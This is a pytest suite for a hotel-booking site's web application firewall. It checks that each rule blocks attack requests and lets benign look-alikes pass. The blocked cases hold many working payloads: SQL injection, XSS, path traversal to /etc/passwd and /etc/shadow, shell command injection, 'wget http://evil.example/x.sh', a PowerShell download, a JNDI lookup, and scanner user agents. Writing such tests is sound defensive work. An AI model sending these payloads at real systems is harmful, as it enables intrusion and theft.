"""Every WAF rule against payloads it must block, and benign look-alikes that must pass."""

from __future__ import annotations

import json
import uuid
from typing import Any

import pytest
from conftest import NGINX_DIR, Gateway

RULES = json.loads((NGINX_DIR / "waf_rules.json").read_text())["rules"]


def nested(value: Any, depth: int) -> Any:
    for _ in range(depth):
        value = {"a": [value]}
    return value


# (rule id, request): every rule of waf_rules.json appears here at least once.
BLOCKED: list[tuple[str, dict[str, Any]]] = [
    ("method-not-allowed", {"method": "PROPFIND"}),
    ("method-not-allowed", {"method": "TRACK"}),
    ("method-not-allowed", {"method": "DEBUG"}),
    ("size-path", {"path": "/hotels/" + "a" * 2100}),
    ("size-query", {"params": {"q": "a" * 5000}}),
    ("size-query-count", {"params": [(f"p{i}", "1") for i in range(120)]}),
    ("size-query-count", {"params": [("a", "1")] * 250 + [("q", "x' union select 1")]}),  # past the parser cap
    ("size-header", {"headers": {"X-Big": "a" * 9000}}),
    ("size-header-count", {"headers": {f"X-H{i}": "1" for i in range(70)}}),
    ("size-cookies", {"headers": {"Cookie": "; ".join(f"c{i}=1" for i in range(60))}}),
    ("size-body", {"method": "POST", "json": {"text": "a" * 300_000}}),
    ("size-body", {"method": "POST", "data": {f"f{i}": "1" for i in range(600)}}),
    ("sqli-union-select", {"params": {"city": "x' UNION SELECT password FROM users--"}}),
    ("sqli-union-select", {"params": {"id": "1 union/**/all/**/select 1,2,3"}}),
    ("sqli-union-select", {"path": "/hotels/1%2527%2520UNION%2520SELECT%2520null"}),  # double-encoded
    ("sqli-union-select", {"method": "POST", "json": {"guest": {"name": "a' union select 1--"}}}),
    ("sqli-union-select", {"headers": {"Cookie": "pref=1%27+UNION+SELECT+1"}}),
    ("sqli-union-select", {"method": "POST", "json": nested("x' union select 1", 70)}),  # too deep to parse
    ("sqli-quoted-select", {"params": {"q": "1'; select name from users"}}),
    ("sqli-quoted-select", {"params": {"q": "x\") select count(*) from users"}}),
    ("sqli-tautology", {"params": {"user": "admin' or '1'='1"}}),
    ("sqli-tautology", {"params": {"q": "x\" OR 1=1 --"}}),
    ("sqli-tautology", {"method": "POST", "data": {"email": "a@b.c' or 1=1"}}),
    ("sqli-tautology", {"params": {"q": "x&#39; or &#39;a&#39;=&#39;a"}}),  # HTML entities
    ("sqli-numeric-tautology", {"params": {"id": "1 or 1=1"}}),
    ("sqli-comment-terminator", {"params": {"user": "admin'--"}}),
    ("sqli-comment-terminator", {"params": {"user": "admin' #"}}),
    ("sqli-stacked-query", {"params": {"q": "x'; DROP TABLE users"}}),
    ("sqli-stacked-query", {"method": "POST", "json": {"note": "1; delete from reservations"}}),
    ("sqli-functions", {"params": {"id": "1 and sleep(5)"}}),
    ("sqli-functions", {"params": {"q": "select * from information_schema.tables"}}),
    ("sqli-functions", {"headers": {"X-Custom": "1; waitfor delay '0:0:5'"}}),
    ("xss-script-tag", {"params": {"q": "<script>alert(1)</script>"}}),
    ("xss-script-tag", {"params": {"q": "%3Cscript%3Ealert(1)%3C%2Fscript%3E"}}),  # encoded twice
    ("xss-script-tag", {"params": {"q": "&lt;script&gt;alert(1)&lt;/script&gt;"}}),
    ("xss-script-tag", {"method": "POST", "data": {"message": "hi <ScRiPt src=//evil.example>"}}),
    ("xss-script-tag", {"headers": {"Referer": "http://x/<script>"}}),
    ("xss-event-handler", {"params": {"q": "<img src=x onerror=alert(1)>"}}),
    ("xss-event-handler", {"method": "POST", "json": {"name": "<body onload=steal()>"}}),
    ("xss-dangerous-tag", {"params": {"q": "<iframe src=//evil.example>"}}),
    ("xss-dangerous-tag", {"params": {"q": "<svg><animate>"}}),
    ("xss-script-uri", {"params": {"next": "javascript:alert(1)"}}),
    ("xss-script-uri", {"params": {"next": "JaVaScRiPt&colon;alert(1)"}}),
    ("xss-script-uri", {"params": {"next": "data:text/html;base64,PHNjcmlwdD4="}}),
    ("xss-dom-access", {"params": {"q": "x\"+document.cookie+\""}}),
    ("xss-dom-access", {"params": {"q": "eval(atob('YWxlcnQoMSk='))"}}),
    ("traversal-dot-dot", {"params": {"file": "../../etc/passwd"}}),
    ("traversal-dot-dot", {"params": {"file": "..%2F..%2Fetc%2Fpasswd"}}),
    ("traversal-dot-dot", {"params": {"file": "..\\..\\windows\\win.ini"}}),
    ("traversal-sensitive-file", {"path": "/.git/config"}),
    ("traversal-sensitive-file", {"path": "/.env"}),
    ("traversal-sensitive-file", {"params": {"file": "/etc/shadow"}}),
    ("traversal-null-byte", {"params": {"file": "receipt.pdf%00.txt"}}),
    ("rce-command-chain", {"params": {"host": "127.0.0.1; ls -la"}}),
    ("rce-command-chain", {"params": {"host": "x | id"}}),
    ("rce-command-chain", {"params": {"q": "$(whoami)"}}),
    ("rce-command-chain", {"params": {"q": "`id`"}}),
    ("rce-command-chain", {"method": "POST", "data": {"name": "a && whoami"}}),
    ("rce-fetch-or-shell", {"params": {"host": "x; wget http://evil.example/x.sh"}}),
    ("rce-fetch-or-shell", {"params": {"host": "x|bash -i"}}),
    ("rce-substitution", {"params": {"q": "$(printf pwned)"}}),
    ("rce-substitution", {"params": {"q": "x`sleep 5`"}}),
    ("rce-substitution", {"params": {"q": "cat${IFS}file"}}),
    ("rce-shellshock", {"headers": {"User-Agent": "() { :; }; echo vulnerable"}}),
    ("rce-template-injection", {"params": {"q": "{{ config.__class__.__init__.__globals__ }}"}}),
    ("rce-template-injection", {"headers": {"Cookie": "x=${jndi:ldap://evil.example/a}"}}),
    ("rce-command-chain", {"params": {"host": "127.0.0.1\nid"}}),
    ("rce-recon-or-decode", {"params": {"host": "127.0.0.1; which nc"}}),
    ("rce-recon-or-decode", {"params": {"host": "x|base64 -d"}}),
    ("rce-recon-or-decode", {"params": {"cmd": "& Invoke-WebRequest http://evil.example/a.ps1"}}),
    ("rce-wildcard-path", {"params": {"host": "127.0.0.1;/???/c?t /???/p?ss??"}}),
    ("php-superglobal", {"path": "/index.php/$_GET[cmd]"}),
    ("php-superglobal", {"method": "POST", "data": {"x": "$_SERVER['argv']"}}),
    ("xss-utf7", {"params": {"q": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"}}),
    ("traversal-sensitive-file", {"params": {"page": "WEB-INF/web.xml"}}),
    ("scanner-headers", {"headers": {"X-Scan-Memo": "Category=\"Audit\"; Function=\"createStateRequest\""}}),
    ("scanner-headers", {"headers": {"Acunetix-Product": "WVS/5.0"}}),
    ("scanner-user-agent", {"headers": {"User-Agent": "jbrofuzz/2.5"}}),
    ("scanner-user-agent", {"headers": {"User-Agent": "sqlmap/1.7.2#stable (https://sqlmap.org)"}}),
    ("scanner-user-agent", {"headers": {"User-Agent": "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)"}}),
    ("scanner-user-agent", {"headers": {"User-Agent": "Mozilla/5.0 (compatible; Nmap Scripting Engine)"}}),
    ("scanner-user-agent", {"headers": {"User-Agent": "masscan/1.3 (https://github.com/robertdavidgraham/masscan)"}}),
]

CSRF = "IjRmNjE5ZDQ3ZTk2MGFmNTQ4YmQ4NTM0MzY5ZTQ3YzQ1NjJmZmRlZDYi.Zz7x3Q.q-Wm--3xY_Zk+9/aBc=="
UUID = str(uuid.UUID("6f1c2a9e-0b3d-4c5e-9a8b-7c6d5e4f3a2b"))

# Requests of the booking flow and prose that looks a little like an attack.
BENIGN: list[dict[str, Any]] = [
    {"path": "/api/search/hotels", "params": {"q": "Rooms; which are quiet? A/B floors, 50% off*"}},
    {"path": "/api/reservations/reservations", "method": "POST",
     "json": {"note": "Bring your passport.\nID card also accepted", "extras": "+ADD-ON breakfast"}},
    {"path": "/api/search/hotels", "params": {"city": "O'Brien"}},
    {"path": "/api/search/cities", "params": {"prefix": "L'Aquila"}},
    {"path": "/api/search/hotels", "params": {"city": "Val-d'Isère", "checkin": "2026-12-01", "checkout": "2026-12-05",
                                              "guests": "2", "stars": "4", "max_price": "200", "sort": "price"}},
    {"path": "/hotels", "params": {"city": "New York", "checkin": "2026-12-01", "checkout": "2026-12-05"}},
    {"path": "/api/search/hotels", "method": "POST", "json": {
        "name": "Hotel Union Square", "city": "O'Brien", "country": "IE",
        "description": "Select your room from our selection. Guests love it; select the best from our suites "
                       "(selection varies). Drop by the lobby, we're open 24/7 -- really!",
        "amenities": ["wifi", "spa & pool", "bed & breakfast"], "stars": 4,
        "room_types": [{"name": "Double 'Deluxe'", "capacity": 2, "nightly_price": {"amount": 12900, "currency": "EUR"},
                        "rooms": 5}],
    }},
    {"path": "/api/reservations/reservations", "method": "POST", "json": {
        "hotel_id": UUID, "room_type_id": UUID, "checkin": "2026-12-01", "checkout": "2026-12-05", "guests": 2,
        "note": None, "extras": [],
    }},
    {"path": "/api/payments/payments", "method": "POST",
     "headers": {"Idempotency-Key": UUID, "Authorization": "Bearer eyJhbGciOiJFUzI1NiJ9.eyJzdWIiOiIxIn0.a-b_c--d"},
     "json": {"reservation_id": UUID, "card": {"number": "4242 4242 4242 4242", "exp_month": 12, "exp_year": 2030,
                                                "cvc": "123", "name": "Zoë Ñúñez"}}},
    {"path": "/api/users/users", "method": "POST",
     "json": {"email": "zoe+hotels@example.com", "name": "Zoë Ñúñez-O'Connor", "password": "p@ss'w0rd;--X"}},
    {"path": "/api/users/users", "method": "POST",
     "json": {"email": "a@example.com", "name": "Ann", "password": "' or '1'='1 <script> ; cat /etc/passwd"}},
    {"path": "/oauth/authorize", "method": "POST", "data": {
        "csrf_token": CSRF, "email": "guest+1@example.com", "password": "p@ss'w0rd;--X' or 1=1 --",
        "client_id": "booking-ui", "redirect_uri": "http://127.0.0.1:8080/auth/callback", "state": "a~b.c-d_e",
        "code_challenge": "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM", "response_type": "code", "scope": "guest"}},
    {"path": "/signup", "method": "POST", "data": {
        "csrf_token": CSRF, "name": "Zoë Ñúñez", "email": "zoe+x@example.com",
        "password": "correct horse; battery ' staple", "password_confirm": "correct horse; battery ' staple"}},
    {"path": "/reset-password", "method": "POST", "data": {
        "csrf_token": CSRF, "token": "Ijk3OSI.Zz7x3Q.abc--def",
        "password": "x' OR 'x'='x", "password_confirm": "x' OR 'x'='x"}},
    {"path": "/oauth/authorize", "params": {
        "response_type": "code", "client_id": "booking-ui", "redirect_uri": "http://127.0.0.1:8080/auth/callback",
        "scope": "guest", "state": "Zz7x3Q-abc_def", "code_challenge": "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM",
        "code_challenge_method": "S256"}},
    {"path": "/auth/callback", "params": {"code": "Sp1x-_abc.DEF~12", "state": "Zz7x3Q-abc_def"}},
    {"path": "/oauth/token", "method": "POST", "data": {
        "grant_type": "authorization_code", "code": "Sp1x-_abc--DEF", "redirect_uri": "http://127.0.0.1:8080/auth/callback",
        "code_verifier": "dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk", "client_id": "booking-ui",
        "client_secret": "s3cr3t'--;|`x`"}},
    {"path": "/reservations/" + UUID + "/pay", "method": "POST",
     "data": {"csrf_token": CSRF, "idempotency_key": UUID, "holder": "Zoë O'Brien-Ñúñez",
              "card_number": "4000 0000 0000 0002", "expiry": "12/30", "cvc": "123"}},
    {"path": "/api/search/hotels", "params": {"q": "I <3 this hotel <3 <3"}},
    {"path": "/api/search/hotels", "params": {"q": "5 < 6 and 7 > 3, rooms < 100"}},
    {"path": "/api/search/hotels", "params": {"q": "drop by the lobby; update the booking if needed"}},
    {"path": "/api/search/hotels", "params": {"q": "Tom & Jerry's Bed & Breakfast | AT&T | cat & dog friendly"}},
    {"path": "/api/search/hotels", "params": {"q": "Rock 'n' Roll Hotel, 'the best' and 5 guests, 50% off, 100%"}},
    {"path": "/api/search/hotels", "params": {"q": "Hmm... and/or 1/2 board; echo chamber quiet; sleep well"}},
    {"path": "/api/search/hotels", "params": {"q": "The script of the play; javascript lessons; union station"}},
    {"path": "/api/search/hotels", "params": {"q": "Rooms at the Union. Select dates; from 1 or 2 nights"}},
    {"path": "/api/search/hotels", "params": {"q": "C'est l'été à Saint-Jean-d'Angély — «très» bien!"}},
    {"path": "/api/search/hotels", "params": [("amenity", "wifi"), ("amenity", "pool"), ("page", "2")]},
    {"path": "/api/search/hotels", "params": {"next_token": "eyJvZmZzZXQiOjIwfQ.Zz7x3Q.a-b_c--d=="}},
    {"path": "/api/reservations/reservations/" + UUID + "/receipt.pdf"},
    {"path": "/static/css/app.min.css", "params": {"v": "1.2.3"}},
    {"path": "/api/search/hotels", "headers": {
        "Cookie": f"session=eyJfZnJlc2giOmZhbHNlfQ.Zz7x3Q.Ab-cd_EF--gh; csrf={CSRF}; theme=dark",
        "Referer": "http://127.0.0.1:8080/hotels?city=O%27Brien&checkin=2026-12-01",
        "Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
        "Accept-Language": "fr-FR,fr;q=0.9,en;q=0.5",
        "User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
        "X-Long": "a" * 4000}},
    {"path": "/api/search/hotels", "method": "DELETE"},
    {"path": "/api/search/hotels", "method": "OPTIONS"},
    {"path": "/api/search/hotels", "method": "HEAD"},
    {"path": "/api/search/hotels", "method": "POST", "data": "not json at all; just text",
     "headers": {"Content-Type": "text/xml"}},
    {"path": "/api/search/hotels", "method": "POST", "json": ["a list", {"nested": [1, 2.5, True, None]}]},
]


def send(gateway: Gateway, request: dict[str, Any], request_id: str):
    request = dict(request)
    method = request.pop("method", "GET")
    path = request.pop("path", "/api/search/hotels")
    headers = {"X-Request-ID": request_id, **request.pop("headers", {})}
    return gateway.request(method, path, headers=headers, **request)


def test_every_rule_has_a_payload_that_it_blocks():
    assert {rule_id for rule_id, _ in BLOCKED} == {rule["id"] for rule in RULES}


@pytest.mark.parametrize(("rule_id", "request_"), BLOCKED,
                         ids=[f"{rule_id}-{i}" for i, (rule_id, _) in enumerate(BLOCKED)])
def test_payload_is_blocked(gateway: Gateway, problem, rule_id, request_):
    request_id = f"blocked-{uuid.uuid4().hex[:12]}"
    response = send(gateway, request_, request_id)
    body = problem(response, 403)
    assert body["rule_id"] == rule_id
    assert body["type"] == "urn:problem:hotelbook:request-blocked"
    assert body["request_id"] == request_id
    entry = gateway.log_for(request_id)
    assert entry["status"] == 403
    assert rule_id in entry["waf_rule"].split(",")
    assert entry["waf_action"] == "blocked"
    assert f"rule={rule_id}" in gateway.error_log.read_text()


@pytest.mark.parametrize("request_", BENIGN, ids=[f"benign-{i}" for i in range(len(BENIGN))])
def test_benign_look_alike_passes(gateway: Gateway, request_):
    request_id = f"benign-{uuid.uuid4().hex[:12]}"
    response = send(gateway, request_, request_id)
    assert response.status_code == 200, response.text
    if request_.get("method") != "HEAD":
        echo = response.json()
        assert echo["headers"]["x-request-id"] == request_id
    assert gateway.log_for(request_id)["waf_rule"] == ""


def test_password_exceptions_are_per_route(gateway: Gateway, problem):
    # The same field on a route without the exception is inspected.
    response = send(gateway, {"path": "/api/search/hotels", "method": "POST",
                              "data": {"password": "x' or '1'='1"}}, "exc-1")
    assert problem(response, 403)["rule_id"] == "sqli-tautology"
    # On the login route only the password is excepted: the e-mail is inspected.
    response = send(gateway, {"path": "/oauth/authorize", "method": "POST",
                              "data": {"email": "x' or '1'='1", "password": "fine"}}, "exc-2")
    assert problem(response, 403)["rule_id"] == "sqli-tautology"
    # The exception is for the form post only.
    response = send(gateway, {"path": "/oauth/authorize", "params": {"password": "x' or '1'='1"}}, "exc-3")
    assert problem(response, 403)["rule_id"] == "sqli-tautology"


def test_matched_values_are_not_written_to_the_logs(gateway: Gateway, problem):
    secret = "s3cret' or '1'='1 marker-7f3a"
    response = send(gateway, {"path": "/api/search/hotels", "method": "POST", "json": {"q": secret}}, "nolog-1")
    problem(response, 403)
    gateway.log_for("nolog-1")
    assert "marker-7f3a" not in gateway.error_log.read_text()
    assert "marker-7f3a" not in gateway.access_log.read_text()


@pytest.mark.parametrize(("rule_id", "request_"), [
    ("sqli-union-select", {"params": {"city": "x' UNION SELECT password FROM users--"}}),
    ("xss-script-tag", {"method": "POST", "json": {"message": "<script>alert(1)</script>"}}),
    ("scanner-user-agent", {"headers": {"User-Agent": "sqlmap/1.7"}}),
    ("method-not-allowed", {"method": "PROPFIND"}),
])
def test_detect_mode_logs_but_lets_through(detect_gateway: Gateway, rule_id, request_):
    request_id = f"detect-{uuid.uuid4().hex[:12]}"
    response = send(detect_gateway, request_, request_id)
    assert response.status_code == 200
    assert response.json()["headers"]["x-request-id"] == request_id
    entry = detect_gateway.log_for(request_id)
    assert rule_id in entry["waf_rule"].split(",")
    assert entry["waf_action"] == "logged"
    assert f"waf logged rule={rule_id}" in detect_gateway.error_log.read_text()


def test_log_only_rules_never_block(tmp_path, upstreams):
    rules = json.loads((NGINX_DIR / "waf_rules.json").read_text())
    for rule in rules["rules"]:
        if rule["id"] == "xss-script-tag":
            rule["action"] = "log"
    rules_file = tmp_path / "rules.json"
    rules_file.write_text(json.dumps(rules))
    # our own rules alone: the Core Rule Set would block the script tag too
    gw = Gateway(tmp_path / "gw", upstreams, "--waf-rules", str(rules_file), "--no-crs").start()
    try:
        for request_id in ("logonly-1", "logonly-1b"):  # logged every time, not only the first
            response = send(gw, {"params": {"q": "<script>x</script>"}}, request_id)
            assert response.status_code == 200
            assert gw.log_for(request_id)["waf_rule"] == "xss-script-tag"
        # the other rules still block
        response = send(gw, {"params": {"q": "x' union select 1"}}, "logonly-2")
        assert response.status_code == 403
    finally:
        gw.stop()


def test_repeated_requests_are_judged_the_same_every_time(gateway: Gateway):
    """Clean values are remembered per worker; hostile ones never are."""
    benign = {"params": {"city": "O'Brien", "guests": "2"}, "headers": {"User-Agent": "Mozilla/5.0 repeat"}}
    hostile = {"params": {"city": "O'Brien' or '1'='1", "guests": "2"}, "headers": {"User-Agent": "Mozilla/5.0 repeat"}}
    for i in range(6):
        assert send(gateway, benign, f"repeat-b{i}").status_code == 200
        assert send(gateway, hostile, f"repeat-h{i}").status_code == 403
    # a header block seen clean before, now with a hostile cookie added
    hostile_cookie = {**benign, "headers": {**benign["headers"], "Cookie": "a=1' union select 1"}}
    assert send(gateway, hostile_cookie, "repeat-c").status_code == 403
